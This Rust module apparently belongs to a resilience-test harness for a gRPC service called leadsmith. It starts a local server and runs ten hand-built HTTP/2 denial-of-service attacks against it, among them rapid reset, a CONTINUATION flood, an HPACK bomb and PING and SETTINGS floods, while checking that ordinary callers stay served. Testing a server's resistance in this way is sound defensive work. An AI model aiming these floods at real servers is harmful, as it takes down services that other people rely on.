//! Hand-made HTTP/2 that costs its sender little: resets, floods of frames, headers that swell, and
//! connections that say nothing or do not listen. Those who call meanwhile must hardly notice. Shown to
//! fail by `large-headers`.

use std::time::Duration;

use anyhow::Result;
use leadsmith::wire::proto;
use prost::Message as _;
use rustix::process::{Resource, getrlimit, setrlimit};

use crate::harness::context::Context;
use crate::harness::report::Findings;
use crate::harness::strain::{Bystander, is_well};
use crate::harness::wire::{self, Wire, frame, header};

const GET: &str = "leadsmith.v1.LeadService/Get";
const LIST: &str = "leadsmith.v1.LeadService/List";
const SIGN_IN: &str = "leadsmith.v1.AuthService/SignIn";
/// Leads that are listed and not read.
const LEADS: usize = 200;

/// What is needed to attack.
#[derive(Clone)]
struct Target {
    address: String,
    token: String,
    /// How many frames a flood has, sent in bursts of a hundred.
    frames: u32,
    connections: usize,
}

type Attack = fn(&Target) -> Result<String>;

const ATTACKS: &[(&str, Attack)] = &[
    ("rapid reset", rapid_reset),
    ("CONTINUATION flood", continuation_flood),
    ("HPACK bomb", hpack_bomb),
    ("empty DATA flood", empty_data),
    ("SETTINGS flood", settings_flood),
    ("PING flood", ping_flood),
    ("slow preface", slow_preface),
    ("idle connections", idle_connections),
    ("half messages", half_messages),
    ("unread answers", unread_answers),
];

pub async fn run(context: &Context<'_>) -> Result<Findings> {
    let mut findings = Findings::default();
    // As many open files as there may be, here and in the server, which inherits it.
    let mut files = getrlimit(Resource::Nofile);
    files.current = files.maximum;
    let _ = setrlimit(Resource::Nofile, files);
    let desk = context.desk()?;
    let server = context.serve(&desk, &[]).await?;
    let caller = desk.caller(&server).await?;
    for number in 0..LEADS {
        caller
            .create(&format!("{number} {}", "x".repeat(180)), "")
            .await?;
    }
    let target = Target {
        address: server.address.clone(),
        token: desk.key(0),
        frames: context.size(20_000, 1_000_000),
        connections: context.size(500, 10_000),
    };
    let bystander = Bystander::new(&server, caller.clone()).await?;
    for (name, attack) in ATTACKS {
        let target = target.clone();
        let attack = wire::apart(move || attack(&target));
        let end = bystander.during(name, None, &mut findings, attack).await?;
        findings.fact("", end);
        is_well(&server, &caller, &mut findings).await?;
    }
    findings.finish()
}

/// Sends a burst again and again with short pauses, as fast as a sender would who wants to stay below
/// what a firewall counts. Tells how much was sent until the server hung up.
fn flood(wire: &mut Wire, target: &Target, mut burst: impl FnMut(u32) -> Vec<u8>) -> String {
    for sent in (0..target.frames).step_by(100) {
        let bytes: Vec<u8> = (sent..sent + 100).flat_map(&mut burst).collect();
        if !wire.send(&bytes) || wire.drain(Duration::from_millis(1)) {
            return format!("refused after {sent} frames");
        }
    }
    format!("{} frames taken", target.frames)
}

/// Calls that are taken back at once (CVE-2023-44487).
fn rapid_reset(target: &Target) -> Result<String> {
    let mut wire = Wire::open(&target.address, &[])?;
    let headers = wire::call(GET, &target.token);
    Ok(flood(&mut wire, target, |number| {
        let stream = 2 * number + 1;
        let begin = frame(wire::HEADERS, wire::END_HEADERS, stream, &headers);
        let reset = frame(wire::RESET, 0, stream, &8_u32.to_be_bytes());
        [begin, reset].concat()
    }))
}

/// Headers that never end (CVE-2024-27316).
fn continuation_flood(target: &Target) -> Result<String> {
    let mut wire = Wire::open(&target.address, &[])?;
    wire.send(&frame(wire::HEADERS, 0, 1, &wire::call(GET, &target.token)));
    let more = header("x-more", &"y".repeat(8_000));
    let more = frame(wire::CONTINUATION, 0, 1, &more);
    Ok(flood(&mut wire, target, |_| more.clone()))
}

/// A header of 4,000 bytes that each further byte repeats: 16,000 times a frame, on many streams.
fn hpack_bomb(target: &Target) -> Result<String> {
    let mut wire = Wire::open(&target.address, &[])?;
    // To be kept by the other side, as number 62.
    let mut kept = header("x-bomb", &"y".repeat(4_000));
    kept[0] = 0x40;
    let first = [wire::call(GET, &target.token), kept].concat();
    let mut sent = 0;
    for stream in (1..60).step_by(2) {
        let block = if stream == 1 {
            first.clone()
        } else {
            wire::call(GET, &target.token)
        };
        let repeats = vec![0x80 | 62; 16_000];
        let bytes = [
            frame(wire::HEADERS, 0, stream, &block),
            frame(wire::CONTINUATION, wire::END_HEADERS, stream, &repeats),
        ];
        if !wire.send(&bytes.concat()) || wire.drain(Duration::from_millis(20)) {
            return Ok(format!("refused after {sent} calls"));
        }
        sent += 1;
    }
    Ok(format!("{sent} calls taken"))
}

/// A body of nothing, in very many frames (CVE-2019-9518).
fn empty_data(target: &Target) -> Result<String> {
    let mut wire = Wire::open(&target.address, &[])?;
    let headers = wire::call(GET, &target.token);
    wire.send(&frame(wire::HEADERS, wire::END_HEADERS, 1, &headers));
    let empty = frame(wire::DATA, 0, 1, &[]);
    Ok(flood(&mut wire, target, |_| empty.clone()))
}

/// Settings, each of which has to be confirmed (CVE-2019-9515).
fn settings_flood(target: &Target) -> Result<String> {
    let mut wire = Wire::open(&target.address, &[])?;
    let settings = frame(wire::SETTINGS, 0, 0, &[]);
    Ok(flood(&mut wire, target, |_| settings.clone()))
}

/// Pings, each of which has to be answered (CVE-2019-9512).
fn ping_flood(target: &Target) -> Result<String> {
    let mut wire = Wire::open(&target.address, &[])?;
    let ping = frame(wire::PING, 0, 0, &[0; 8]);
    Ok(flood(&mut wire, target, |_| ping.clone()))
}

/// Connections that begin to speak and take their time.
fn slow_preface(target: &Target) -> Result<String> {
    let mut wires = Vec::new();
    for _ in 0..target.connections.min(200) {
        wires.push(Wire::silent(&target.address)?);
    }
    for wire in &mut wires {
        wire.dribble(Duration::from_micros(500));
    }
    Ok(format!("{} connections", wires.len()))
}

/// Connections that say hello and then nothing.
fn idle_connections(target: &Target) -> Result<String> {
    let mut wires = Vec::new();
    for number in 0..target.connections {
        wires.push(Wire::open(&target.address, &[])?);
        if number % 10 == 0 {
            std::thread::sleep(Duration::from_millis(10));
        }
    }
    std::thread::sleep(Duration::from_millis(500));
    let closed = wires
        .iter_mut()
        .filter_map(|wire| wire.drain(Duration::from_micros(100)).then_some(()))
        .count();
    Ok(format!("{} connections, {closed} refused", wires.len()))
}

/// Sign-ins of strangers whose messages do not come: as many as there may be calls at once.
fn half_messages(target: &Target) -> Result<String> {
    let mut wires = Vec::new();
    let headers = wire::call(SIGN_IN, "");
    let half = b"\0\0\0\0\x64half of a message";
    for _ in 0..5 {
        let mut wire = Wire::open(&target.address, &[])?;
        for stream in (1..400).step_by(2) {
            let call = frame(wire::HEADERS, wire::END_HEADERS, stream, &headers);
            let data = frame(wire::DATA, 0, stream, half);
            wire.send(&[call, data].concat());
        }
        wires.push(wire);
    }
    std::thread::sleep(Duration::from_secs(2));
    Ok(format!("{} sign-ins", wires.len() * 200))
}

/// Long answers to a caller who takes none of them: with a window of 0 nothing can be sent.
fn unread_answers(target: &Target) -> Result<String> {
    // SETTINGS_INITIAL_WINDOW_SIZE
    let mut wires = Vec::new();
    let headers = wire::call(LIST, &target.token);
    let list = proto::ListLeadsRequest {
        page_size: 1_000,
        ..Default::default()
    };
    let body = wire::message(&list.encode_to_vec());
    let mut asked = 0;
    for _ in 0..4 {
        let mut wire = Wire::open(&target.address, &[(4, 0)])?;
        for stream in (1..100).step_by(2) {
            let call = frame(wire::HEADERS, wire::END_HEADERS, stream, &headers);
            let data = frame(wire::DATA, wire::END_STREAM, stream, &body);
            if !wire.send(&[call, data].concat()) {
                break;
            }
            asked += 1;
            std::thread::sleep(Duration::from_millis(10));
        }
        wires.push(wire);
    }
    std::thread::sleep(Duration::from_secs(1));
    Ok(format!("{asked} answers not read"))
}
